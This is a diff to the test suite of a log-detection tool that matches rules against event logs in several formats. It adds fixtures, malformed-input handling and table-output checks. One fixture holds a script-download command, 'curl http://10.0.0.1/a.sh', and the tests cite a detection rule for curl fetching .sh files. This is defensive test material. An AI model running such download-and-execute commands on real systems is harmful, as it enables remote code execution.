@@ -1,5 +1,5 @@
 import { rmSync } from 'node:fs'
-import { gzipSync } from 'node:zlib'
+import { gzipSync, zstdCompressSync } from 'node:zlib'
 import { afterAll, expect, test } from 'vitest'
 import { createFolder, runCaptured } from '../../test/run-captured.ts'
 import type { ContextOverrides } from '../../test/run-captured.ts'
@@ -27,6 +27,10 @@ const folder = createFolder({
   'logs/b.ndjson': `${curlEvent}\n`,
   'logs/deep/c.jsonl.gz': gzipSync(`${curlEvent}\n`),
   'logs/notes.txt': 'no events',
+  'pretty.json': JSON.stringify([rootEvent, curlEvent].map((text): unknown => JSON.parse(text)), undefined, 2),
+  'cloud.json': `{"Records":[${rootEvent},${curlEvent}]}`,
+  'wide.json': Buffer.from(`\ufeff${rootEvent}\n${curlEvent}\n`, 'utf16le'),
+  'process.csv.zst': zstdCompressSync('Image,CommandLine\n/bin/ls,ls\n/usr/bin/curl,"curl http://10.0.0.1/a.sh"\n"x'),
   'torn.ndjson': '{}\n{"a\n',
   'torn.gz': gzipSync(`${curlEvent}\n`.repeat(1000)).subarray(0, 60),
 })
@@ -37,6 +41,27 @@ async function detect(line: string, surroundings: ContextOverrides = {}) {
   const captured = await runCaptured(`detect ${line}`, { cwd: folder, ...surroundings })
   return { ...captured, matches: captured.stdout.split('\n').slice(0, -1).map((text) => JSON.parse(text) as Record<string, unknown>) }
 }
+
+test.for<[file: string, line: number]>([
+  ['pretty.json', 1],
+  ['cloud.json', 1],
+  ['wide.json', 1],
+])('recognises %s', async ([file, line]) => {
+  expect(await detect(`rules/curl.yml --lenient --input ${file}`)).toMatchObject({ code: 0, stderr: '', matches: [{ line }] })
+})
+
+test('reports what a decoder cannot read under its line, and counts it', async () => {
+  const { code, stderr, matches } = await detect('rules/curl.yml --lenient --allow-malformed 0.2 --input process.csv.zst')
+  expect({ code, matches }).toMatchObject({ code: 65, matches: [{ line: 2 }] })
+  expect(stderr).toContain('tripline: line 3 skipped: a quote is not closed\n')
+  expect(stderr).toContain('1 of 3 lines are malformed')
+})
+
+test('a stated format is used, whatever the bytes say', async () => {
+  const { code, stderr } = await detect('rules/curl.yml --input-format evtx --input events.ndjson')
+  expect(code).toBe(65)
+  expect(stderr).toContain('the log ends')
+})
 
 /** The input lines that matched. */
 async function matchedLines(line: string, surroundings: ContextOverrides = {}): Promise<unknown[]> {
@@ -77,7 +102,7 @@ test('counts malformed lines in the file that holds them', async () => {
 
 test.for<[title: string, input: string, message: string]>([
   ['a pattern without files', 'logs/*.csv', 'the pattern matches no file'],
-  ['a directory without events', 'empty', 'the directory holds no *.ndjson, *.jsonl, *.json or *.log'],
+  ['a directory without events', 'empty', 'the directory holds no file of events, such as *.ndjson, *.evtx or *.csv.gz'],
   ['a file that does not exist', 'logs/a.ndjson --input missing.ndjson', 'there is no such file or directory'],
 ])('refuses %s', async ([, input, message]) => {
   const { code, stdout, stderr } = await detect(`rules --input ${input}`)
@@ -99,7 +124,7 @@ test.for<[stdin: string, option: string, code: number]>([
 })
 
 test.for<[option: string, message: string]>([
-  ['', "no line of the input holds an event: 1 malformed line; check that the input is NDJSON, or allow this with --allow-malformed 1"],
+  ['', "no line of the input holds an event: 1 malformed line; state the format with --input-format, or allow this with --allow-malformed 1"],
   [' --allow-malformed 0.25', '1 of 1 lines are malformed, a share of 1.000; --allow-malformed is 0.25'],
 ])('says what is wrong with an input without events%s', async ([option, message]) => {
   expect((await detect(`rules${option}`, { stdin: 'x\n' })).stderr).toContain(`tripline: ${message}\n`)
@@ -181,13 +206,18 @@ test('adds the tree of the rule', async () => {
   expect(match?.['explain']).toMatchObject({ result: true, children: expect.any(Array) })
 })
 
-test('prints a table', async () => {
+test('prints a table, and totals below', async () => {
   const { stdout } = await runCaptured('detect rules --input events.ndjson --output table', { cwd: folder })
-  const id = stdout.split('\n')[2]?.slice(75, 111) ?? ''
-  expect(stdout.split('\n').map((row) => row.trimEnd())).toEqual([
-    '    LINE  LEVEL          TITLE                                             RULE ID                               CONDITIONS',
-    '       0  high           Script download                                   6f2d1c1e-0f5b-4b7e-9d3a-0d7d3c8f0001  selection: Image|endswith=/curl; selection: CommandLine|contains=.sh',
-    `       2  -              Shell                                             ${id}  shell: Image|endswith=/bash`,
+  expect(stdout.split('\n')).toEqual([
+    '    LINE  TIME                  LEVEL          HOST              USER              TITLE                                     ATT&CK        CONDITIONS',
+    '       0  -                     high           -                 -                 Script download                           -             '
+      + 'selection: Image|endswith=/curl; selection: CommandLine|contains=.sh',
+    '       2  -                     -              -                 alice             Shell                                     -             shell: Image|endswith=/bash',
+    '',
+    '2 matches, 2 rules, 0 hosts',
+    '       1  high           Script download  rules/curl.yml',
+    '       1  -              Shell  rules/shell.yml',
+    'users: alice 1',
     '',
   ])
 })
@@ -245,8 +275,8 @@ test.for<[line: string, code: number, message: string]>([
   ['empty', 65, `no rules (*.yml, *.yaml) in 'empty'`],
   ['nowhere', 66, `rules path 'nowhere' cannot be read: there is no such file or directory`],
   ['rules --input nowhere', 66, `input 'nowhere' cannot be read: there is no such file or directory`],
-  ['rules --input rules', 66, `input 'rules' cannot be read: the directory holds no *.ndjson, *.jsonl, *.json or *.log`],
-  ['rules --input torn.gz', 66, `input 'torn.gz' cannot be read: unexpected end of file`],
+  ['rules --input rules', 66, `input 'rules' cannot be read: the directory holds no file of events, such as *.ndjson, *.evtx or *.csv.gz`],
+  ['rules --input torn.gz', 66, `input 'torn.gz' cannot be read: its gzip is broken: unexpected end of file`],
   ['rules --placeholders nowhere', 66, `--placeholders 'nowhere' cannot be read: there is no such file or directory`],
   ['rules --placeholders no-json.json', 2, `--placeholders 'no-json.json' is no JSON: `],
   ['rules --placeholders no-object.json', 2, `--placeholders 'no-object.json' holds no JSON object of names and lists`],
